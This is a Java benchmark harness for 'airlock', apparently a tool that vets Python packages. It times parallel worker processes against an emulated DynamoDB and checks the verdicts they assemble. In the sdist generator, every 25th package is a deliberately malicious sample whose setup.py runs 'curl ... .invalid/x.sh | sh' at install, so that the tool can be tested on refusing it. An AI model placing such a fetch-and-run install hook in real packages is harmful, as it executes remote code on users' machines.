import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.wireMockConfig;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.github.tomakehurst.wiremock.WireMockServer;
import com.sun.net.httpserver.HttpServer;
import dev.airlock.adapter.aws.testing.FakeDynamoDb;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.compressors.gzip.GzipCompressorOutputStream;

/**
 * Times one request file decided by N real airlock processes sharing one DynamoDB emulation, then
 * assembled, for each N asked; checks each archive was downloaded once and the assembled verdict.
 */
public final class Benchmark {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final int REFUSED_EVERY = 25;

  public static void main(String[] args) throws Exception {
    Map<String, String> options = new LinkedHashMap<>(Map.of("--rows", "400", "--workers", "1,2,4",
        "--latency-ms", "0", "--concurrency", "4"));
    for (int i = 0; i + 1 < args.length; i += 2) {
      options.put(args[i], args[i + 1]);
    }
    int rows = Integer.parseInt(options.get("--rows"));
    long latency = Long.parseLong(options.get("--latency-ms"));
    Path work = Files.createTempDirectory("airlock-workers-bench");
    FakeDynamoDb table = new FakeDynamoDb("decisionKey", "verdict-index", "verdict", "decisionKey");
    WireMockServer dynamoDb = new WireMockServer(wireMockConfig().bindAddress("127.0.0.1").dynamicPort()
        .containerThreads(64).extensions(table).disableRequestJournal());
    dynamoDb.start();
    dynamoDb.stubFor(post(urlEqualTo("/")).willReturn(aResponse()));
    Map<String, byte[]> archives = new LinkedHashMap<>();
    Map<String, AtomicInteger> fetches = new ConcurrentHashMap<>();
    HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 64);
    server.setExecutor(Executors.newVirtualThreadPerTaskExecutor());
    server.createContext("/", exchange -> {
      byte[] body = archives.get(exchange.getRequestURI().getPath());
      fetches.computeIfAbsent(exchange.getRequestURI().getPath(), p -> new AtomicInteger()).incrementAndGet();
      try {
        Thread.sleep(latency);
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
      }
      exchange.sendResponseHeaders(body == null ? 404 : 200, body == null ? -1 : body.length);
      if (body != null) {
        try (OutputStream out = exchange.getResponseBody()) {
          out.write(body);
        }
      }
      exchange.close();
    });
    server.start();
    String host = "localhost:" + server.getAddress().getPort();
    StringBuilder csv = new StringBuilder();
    long bytes = 0;
    for (int i = 1; i <= rows; i++) {
      String name = "pkg-" + i;
      String path = "/packages/" + name + "-1.0.0.tar.gz";
      byte[] archive = sdist(name, i % REFUSED_EVERY == 0);
      archives.put(path, archive);
      bytes += archive.length;
      csv.append(name).append(",http://").append(host).append(path).append(",").append(sha256(archive)).append("\n");
    }
    Path requestFile = Files.writeString(work.resolve("requests.csv"), csv);
    System.out.printf("%d archives (%d KiB in all, %d refused), download latency %d ms, --concurrency %s per worker,"
        + " %d cores%n%n", rows, bytes / 1024, rows / REFUSED_EVERY, latency, options.get("--concurrency"),
        Runtime.getRuntime().availableProcessors());
    boolean apart = options.getOrDefault("--placement", "together").equals("apart");
    System.out.println(apart
        ? "Placement apart: the workers run one after another, each alone on this machine, and the workers' time is"
            + " the slowest one's: what N CodeBuild builds (one machine each) take."
        : "Placement together: the N workers run at once on this machine's cores.");
    System.out.println();
    System.out.println("| workers | workers' wall time | assembly | total | speed-up | each archive fetched once |");
    System.out.println("|---|---|---|---|---|---|");
    double first = 0;
    for (String n : options.get("--workers").split(",")) {
      int workers = Integer.parseInt(n.strip());
      table.clear();
      fetches.clear();
      Path data = work.resolve("data-" + workers);
      String runId = "bench-" + workers + "-" + System.nanoTime();
      double workersSeconds = 0;
      long start = System.nanoTime();
      List<Process> processes = new ArrayList<>();
      for (int i = 1; i <= workers; i++) {
        long started = System.nanoTime();
        Process worker = airlock(options, dynamoDb, runId, requestFile, data, host,
            work.resolve("w" + workers + "-" + i), "--worker", i + "/" + workers);
        processes.add(worker);
        if (apart) {
          worker.waitFor();
          workersSeconds = Math.max(workersSeconds, (System.nanoTime() - started) / 1e9);
        }
      }
      for (Process p : processes) {
        if (p.waitFor() != 0) {
          throw new IllegalStateException("a worker exited " + p.exitValue());
        }
      }
      if (!apart) {
        workersSeconds = (System.nanoTime() - start) / 1e9;
      }
      long assembleStart = System.nanoTime();
      Path assemblyFolder = work.resolve("a" + workers);
      Process assembly = airlock(options, dynamoDb, runId, requestFile, data, host, assemblyFolder, "--assemble",
          String.valueOf(workers));
      int code = assembly.waitFor();
      double assembleSeconds = (System.nanoTime() - assembleStart) / 1e9;
      JsonNode summary = JSON.readTree(assemblyFolder.resolve("stdout.txt").toFile()).path("summary");
      boolean right = code == 0 && summary.path("approved").asInt() == rows - rows / REFUSED_EVERY
          && summary.path("refused").asInt() == rows / REFUSED_EVERY;
      boolean once = fetches.size() == rows && fetches.values().stream().allMatch(c -> c.get() == 1);
      if (!right) {
        throw new IllegalStateException("the assembled verdict is wrong (exit " + code + "): " + summary);
      }
      double total = workersSeconds + assembleSeconds;
      if (first == 0) {
        first = total;
      }
      System.out.printf("| %d | %.1f s | %.1f s | %.1f s | %.2f× | %s |%n", workers, workersSeconds, assembleSeconds,
          total, first / total, once ? "yes" : "NO");
    }
    server.stop(0);
    dynamoDb.stop();
    try (Stream<Path> files = Files.walk(work)) {
      files.sorted(Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
    }
  }

  private static Process airlock(Map<String, String> options, WireMockServer dynamoDb, String runId, Path requestFile,
      Path data, String host, Path folder, String... mode) throws IOException {
    Files.createDirectories(folder);
    List<String> command = new ArrayList<>(List.of(options.get("--java"), "-cp", options.get("--jar"),
        "dev.airlock.bootstrap.Main", "run", requestFile.toString(), "--format", "json", "--ledger", "dynamodb",
        "--data-dir", data.toString(), "--allow-host", host, "--concurrency", options.get("--concurrency")));
    command.addAll(List.of(mode));
    ProcessBuilder builder = new ProcessBuilder(command).directory(folder.toFile())
        .redirectOutput(folder.resolve("stdout.txt").toFile()).redirectError(folder.resolve("stderr.txt").toFile());
    Map<String, String> env = builder.environment();
    env.keySet().removeIf(k -> k.startsWith("AWS_") || k.startsWith("AIRLOCK_"));
    env.put("AWS_ENDPOINT_URL", dynamoDb.baseUrl());
    env.put("AWS_REGION", "us-east-1");
    env.put("AWS_ACCESS_KEY_ID", "AKIDAIRLOCKBENCH");
    env.put("AWS_SECRET_ACCESS_KEY", "airlock-bench-secret");
    env.put("AWS_EC2_METADATA_DISABLED", "true");
    env.put("AIRLOCK_DYNAMODB_TABLE", "airlock-decisions");
    env.put("AIRLOCK_RUN_ID", runId);
    return builder.start();
  }

  private static String sha256(byte[] content) throws Exception {
    return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(content));
  }

  /** A small sdist; a refused one's install step downloads and runs a script. */
  private static byte[] sdist(String name, boolean refused) throws IOException {
    String setup = refused
        ? "import os\nfrom setuptools import setup\nos.system(\"curl -fsSL https://" + name
            + ".invalid/x.sh | sh\")\nsetup(name=\"" + name + "\", version=\"1.0.0\")\n"
        : "from setuptools import setup\nsetup(name=\"" + name + "\", version=\"1.0.0\")\n";
    StringBuilder module = new StringBuilder("\"\"\"" + name + ".\"\"\"\n");
    for (int i = 0; i < 200; i++) {
      module.append("def f").append(i).append("(x):\n    return x * ").append(i).append("\n\n");
    }
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (TarArchiveOutputStream tar = new TarArchiveOutputStream(new GzipCompressorOutputStream(bytes))) {
      add(tar, name + "-1.0.0/setup.py", setup);
      add(tar, name + "-1.0.0/" + name.replace('-', '_') + "/__init__.py", module.toString());
    }
    return bytes.toByteArray();
  }

  private static void add(TarArchiveOutputStream tar, String path, String content) throws IOException {
    byte[] data = content.getBytes(StandardCharsets.UTF_8);
    TarArchiveEntry entry = new TarArchiveEntry(path);
    entry.setSize(data.length);
    tar.putArchiveEntry(entry);
    tar.write(data);
    tar.closeArchiveEntry();
  }
}
